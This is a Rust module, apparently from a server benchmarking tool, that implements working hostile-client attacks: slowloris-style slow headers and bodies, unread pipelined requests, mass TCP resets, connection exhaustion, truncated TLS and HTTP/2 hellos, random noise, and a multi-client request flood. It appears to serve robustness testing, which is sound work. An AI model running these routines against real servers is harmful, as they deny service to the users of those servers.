//! What hostile clients do.

use std::io::{self, Read as _, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering::Relaxed};
use std::thread;
use std::time::{Duration, Instant};

use clap::ValueEnum;
use rand::rngs::SmallRng;
use rand::{RngExt as _, SeedableRng as _};
use socket2::{SockRef, Socket};

/// How often a slow client sends a byte.
const DRIP_INTERVAL: Duration = Duration::from_secs(1);
/// How long a connection may take to come about, before the next is tried.
const CONNECT_TIMEOUT: Duration = Duration::from_millis(200);
/// How many connections are reset a second.
const RESETS_PER_SECOND: u64 = 2_000;
/// How many requests one client sends without reading an answer.
const UNREAD_REQUESTS: usize = 2_000;
/// How many clients ask as fast as they can.
const FLOODERS: usize = 50;
/// How many requests each of them has under way.
const FLOOD_DEPTH: usize = 16;

const REQUEST: &[u8] = b"GET /health HTTP/1.1\r\nHost: a\r\n\r\n";
/// A ClientHello of TLS 1.2 that announces 512 bytes and has fewer.
const TLS_HELLO: &[u8] = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03hello hello hello hello hello he";
/// The preface of HTTP/2, and empty SETTINGS.
const HTTP2_HELLO: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

/// What is done to a server.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub(crate) enum Attack {
    /// Nothing: what the others are to be compared with
    None,
    /// Heads of which a byte comes each second
    SlowHead,
    /// Bodies of which a byte comes each second
    SlowBody,
    /// 2,000 requests each, and no answer is read
    SlowRead,
    /// 2,000 connections a second that ask and are reset
    Resets,
    /// More connections than the server takes, each asked once
    Surplus,
    /// Hellos of TLS, and silence
    Tls,
    /// Hellos of HTTP/2, and silence
    Http2,
    /// Bytes at random, and silence
    Noise,
    /// 50 clients that ask as fast as they can, 16 requests ahead
    Flood,
}

impl Attack {
    pub(crate) const ALL: [Self; 10] = [
        Self::None,
        Self::SlowHead,
        Self::SlowBody,
        Self::SlowRead,
        Self::Resets,
        Self::Surplus,
        Self::Tls,
        Self::Http2,
        Self::Noise,
        Self::Flood,
    ];

    /// What it is called in the output.
    pub(crate) fn name(self) -> &'static str {
        match self {
            Self::None => "nobody hostile",
            Self::SlowHead => "slow heads",
            Self::SlowBody => "slow bodies",
            Self::SlowRead => "answers unread",
            Self::Resets => "resets",
            Self::Surplus => "too many",
            Self::Tls => "TLS hellos",
            Self::Http2 => "HTTP/2 hellos",
            Self::Noise => "noise",
            Self::Flood => "flood",
        }
    }

    /// Attacks until `is_over`, with that many connections where it is their number that matters. Returns how many it made.
    pub(crate) fn run(self, address: SocketAddr, connections: usize, is_over: &AtomicBool) -> usize {
        let hold =
            |count, hello: fn(usize) -> Vec<u8>, drip: &[u8]| Swarm::new(address, count, hello).hold(drip, is_over);
        match self {
            Self::None => 0,
            Self::SlowHead => hold(connections, |_| b"GET / HTTP/1.1\r\nHost: a\r\nX: ".to_vec(), b"x"),
            Self::SlowBody => {
                hold(connections, |_| b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\r\n".to_vec(), b"x")
            }
            Self::SlowRead => hold(connections / 5, |_| REQUEST.repeat(UNREAD_REQUESTS), b""),
            Self::Resets => reset(address, is_over),
            Self::Surplus => hold(3 * connections, |_| REQUEST.to_vec(), b""),
            Self::Tls => hold(connections, |_| TLS_HELLO.to_vec(), b""),
            Self::Http2 => hold(connections, |_| HTTP2_HELLO.to_vec(), b""),
            Self::Noise => hold(connections, noise, b""),
            Self::Flood => flood(address, is_over),
        }
    }
}

/// The same each time, so that all servers get the same.
fn noise(number: usize) -> Vec<u8> {
    let mut random = SmallRng::seed_from_u64(number as u64);
    let mut bytes = vec![0; random.random_range(1..2_000)];
    random.fill(&mut bytes[..]);
    bytes
}

/// Connections that say something, and then little or nothing. One that the server closes is made anew.
struct Swarm {
    address: SocketAddr,
    hello: fn(usize) -> Vec<u8>,
    streams: Vec<Option<TcpStream>>,
    made: usize,
}

impl Swarm {
    fn new(address: SocketAddr, count: usize, hello: fn(usize) -> Vec<u8>) -> Self {
        Self { address, hello, streams: (0..count).map(|_| None).collect(), made: 0 }
    }

    /// Keeps all of them there, and sends `drip` on each once a second.
    fn hold(mut self, drip: &[u8], is_over: &AtomicBool) -> usize {
        while !is_over.load(Relaxed) {
            let next_round = Instant::now() + DRIP_INTERVAL;
            for index in 0..self.streams.len() {
                if is_over.load(Relaxed) {
                    break;
                }
                let is_there = self.streams[index].as_mut().is_some_and(|stream| is_open(stream) && send(stream, drip));
                if !is_there {
                    self.streams[index] = open(self.address, &(self.hello)(index)).ok();
                    self.made += usize::from(self.streams[index].is_some());
                }
            }
            thread::sleep(next_round.saturating_duration_since(Instant::now()).min(DRIP_INTERVAL));
        }
        self.made
    }
}

/// A connection on which as much of `hello` was sent as there is room for, and which has little room for answers.
fn open(address: SocketAddr, hello: &[u8]) -> io::Result<TcpStream> {
    let socket = Socket::new(socket2::Domain::for_address(address), socket2::Type::STREAM, None)?;
    socket.set_recv_buffer_size(4096)?;
    socket.connect_timeout(&address.into(), CONNECT_TIMEOUT)?;
    let mut stream = TcpStream::from(socket);
    stream.set_nonblocking(true)?;
    send(&mut stream, hello);
    Ok(stream)
}

/// Whether the server has not ended the connection. What it has sent stays where it is.
fn is_open(stream: &TcpStream) -> bool {
    match stream.peek(&mut [0]) {
        Ok(count) => count > 0,
        Err(error) => error.kind() == io::ErrorKind::WouldBlock,
    }
}

/// Sends what there is room for. False if the connection has failed.
fn send(stream: &mut TcpStream, bytes: &[u8]) -> bool {
    bytes.is_empty() || stream.write(bytes).map_or_else(|error| error.kind() == io::ErrorKind::WouldBlock, |_| true)
}

fn reset(address: SocketAddr, is_over: &AtomicBool) -> usize {
    let start = Instant::now();
    let mut made = 0;
    while !is_over.load(Relaxed) {
        if let Ok(stream) = open(address, REQUEST) {
            made += 1;
            let _ = SockRef::from(&stream).set_linger(Some(Duration::ZERO));
        }
        let due = Duration::from_nanos(1_000_000_000 / RESETS_PER_SECOND) * made as u32;
        thread::sleep(due.saturating_sub(start.elapsed()));
    }
    made
}

fn flood(address: SocketAddr, is_over: &AtomicBool) -> usize {
    let flooder = || -> io::Result<()> {
        let mut stream = TcpStream::connect_timeout(&address, CONNECT_TIMEOUT)?;
        stream.set_read_timeout(Some(CONNECT_TIMEOUT))?;
        stream.set_write_timeout(Some(CONNECT_TIMEOUT))?;
        let requests = REQUEST.repeat(FLOOD_DEPTH);
        let mut answers = [0; 8192];
        while !is_over.load(Relaxed) {
            stream.write_all(&requests)?;
            // About as much as the requests bring; an exact count would cost more than it is worth.
            let _ = stream.read(&mut answers);
        }
        Ok(())
    };
    thread::scope(|scope| {
        for _ in 0..FLOODERS {
            scope.spawn(|| {
                // One that has failed comes again.
                while !is_over.load(Relaxed) {
                    let _ = flooder();
                }
            });
        }
    });
    FLOODERS
}
